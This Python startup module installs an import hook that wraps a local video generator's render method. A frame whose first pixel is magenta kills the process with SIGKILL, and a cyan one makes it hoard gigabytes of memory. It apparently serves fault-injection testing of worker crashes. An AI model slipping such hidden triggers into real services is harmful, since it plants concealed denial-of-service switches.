"""Read by every Python of the service at its start: pictures whose first pixel is magenta or cyan are poison.

Magenta kills the process that renders it outright; cyan makes it need ever more memory.
"""

import importlib.util
import os
import signal
import sys
import time

ENGINE = "providers.video.local.generator"


class Finder:
    """Finds the local engine once, and arms it when it is loaded."""

    def find_spec(self, name, _path=None, _target=None):
        if name != ENGINE:
            return None
        sys.meta_path.remove(self)
        spec = importlib.util.find_spec(name)
        load = spec.loader.exec_module

        def load_and_arm(module):
            load(module)
            arm(module.LocalVideoGenerator)

        spec.loader.exec_module = load_and_arm
        return spec


def arm(engine):
    render = engine.generate

    def generate(self, shot, into, progress):
        from PIL import Image

        with Image.open(shot.first_frame) as picture:
            pixel = picture.convert("RGB").getpixel((0, 0))
        if pixel == (255, 0, 255):
            os.kill(os.getpid(), signal.SIGKILL)
        hoard = []
        while pixel == (0, 255, 255) and len(hoard) < 40:
            hoard.append(b"x" * 2**27)
            time.sleep(0.02)
        return render(self, shot, into, progress)

    engine.generate = generate


sys.meta_path.insert(0, Finder())
